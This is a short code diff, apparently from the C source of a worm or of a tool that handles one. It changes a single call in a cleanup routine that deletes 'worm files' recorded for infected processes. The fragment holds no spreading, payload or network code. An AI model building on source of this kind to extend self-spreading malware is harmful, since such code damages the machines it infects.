@@ -227,7 +227,7 @@ void DeleteProcessFiles() {
     // the executable.
     Sleep(1000);
     for (InfectedProcessFile* node = InfectedProcessFiles.head; node; node = node->next) {
-        DeleteWormFile(node->path, &node->copy);
+        DeleteWormFile(AnsiFilePath(node->path), &node->copy);
     }
 }
 
